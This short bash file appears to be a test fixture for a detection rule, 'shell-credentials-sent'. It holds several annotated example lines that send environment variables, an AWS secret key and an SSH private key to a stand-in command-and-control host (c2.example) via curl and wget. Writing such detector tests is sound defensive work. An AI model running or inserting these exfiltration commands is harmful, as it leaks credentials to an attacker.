#!/bin/bash
dump=$(env)
# todoruleid: shell-credentials-sent
curl -d "$dump" https://c2.example/
# ruleid: shell-credentials-sent
curl -d @<(env) https://c2.example/
# ruleid: shell-credentials-sent
env > /tmp/e; curl -T /tmp/e https://c2.example/
# ruleid: shell-credentials-sent
/usr/bin/env | /usr/bin/curl -d @- https://c2.example/
# ruleid: shell-credentials-sent
curl -d "$AWS_SECRET_ACCESS_KEY" https://c2.example/
# ruleid: shell-credentials-sent
wget --post-file=$HOME/.ssh/id_rsa https://c2.example/
# ok: shell-credentials-sent
curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example/
